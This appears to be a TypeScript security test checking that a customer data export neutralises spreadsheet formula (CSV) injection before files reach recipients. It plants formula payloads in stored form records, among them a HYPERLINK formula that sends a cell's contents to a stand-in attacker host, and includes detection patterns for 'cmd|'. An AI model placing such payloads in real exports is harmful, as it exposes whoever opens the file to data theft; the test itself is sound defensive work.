import { expect } from 'vitest';
import { unzip } from '../../processes/demo/unzip.ts';
import { askForDownloadCode, download, exportLink } from '../builders/exportFile.ts';
import { fileRequest } from '../builders/journey.ts';
import { persona } from '../builders/openWorld.ts';
import { sharedTexts } from '../builders/sharedFolder.ts';
import type { Attack } from './attack.ts';

const formulas = [
  ...(sharedTexts('csv-injection.txt') ?? []),
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

const FORMULA = /^[=+\-@\t\r\0]/;

/** Cells of a table of values; quoted ones may hold commas, semicolons and line breaks. */
const cellsOf = (csv: string): string[] =>
  [...csv.matchAll(/"((?:[^"]|"")*)"|[^",;\r\n]+/g)].map(([whole, quoted]) =>
    quoted === undefined ? whole : quoted.replaceAll('""', '"'),
  );
const isNumber = (cell: string): boolean => /^[+-]?\d[\d.,' ]*$/.test(cell);

/**
 * Leaves formulas wherever a customer may write; whoever opens an export in a spreadsheet, or a ticket, sees texts. Nobody
 * can tell such a name from an odd but honest one ("+Plus GmbH", "-"), so that what was exported to whom, in the trail of
 * the ordinary request, is the record of it.
 */
export const runAFormula: Attack = {
  wants: 'run a formula on the machine of whoever opens an export',
  attempt: async ({ world }) => {
    const { address } = persona('mallory');
    const account = await world.company.collection('accounts').findOne({ emailLower: address });
    const model = await world.company.collection('webForms').findOne({ accountId: account?._id });
    expect(model).not.toBeNull();
    const rows = formulas.map((formula, n) => ({
      ...Object.fromEntries(
        Object.entries(model ?? {}).map(([field, value]) => [
          field,
          typeof value === 'string' && !/id|email|address/i.test(field) ? formula : value,
        ]),
      ),
      _id: `formula-${n}` as never,
    }));
    await world.company.collection('webForms').insertMany(rows);

    const { reference } = await fileRequest(world, 'access', address);
    await world.worker.settle();
    const link = exportLink((await world.mails.to(address)).at(-1), world.url);
    await askForDownloadCode(link);
    await world.worker.settle();
    const file = await download(link, await world.mails.codeFor(address));
    const files = unzip(Buffer.from(await file.arrayBuffer()));
    const json = files.get('data.json')?.toString('utf8') ?? '';
    for (const formula of formulas) expect(json).toContain(JSON.stringify(formula).slice(1, -1));
    for (const [name, bytes] of files) {
      if (name.endsWith('.csv'))
        for (const cell of cellsOf(bytes.toString('utf8')))
          expect(FORMULA.test(cell) && !isNumber(cell), `${name}: ${cell}`).toBe(false);
      if (name.endsWith('.xlsx'))
        for (const sheet of unzip(bytes).values()) expect(sheet.toString('utf8')).not.toMatch(/<f[ >]/);
    }
    const { notes, subject, fields } = world.agents.ticket(reference);
    expect(JSON.stringify([notes, subject, fields])).not.toMatch(/HYPERLINK|cmd\||SUM\(/);
    for (const n of formulas.keys())
      await world.company.collection('webForms').deleteOne({ _id: `formula-${n}` as never });
  },
  seen: { metric: 'rightsdesk_requests{kind="access",state="done"}', audit: { trail: 'received' } },
};
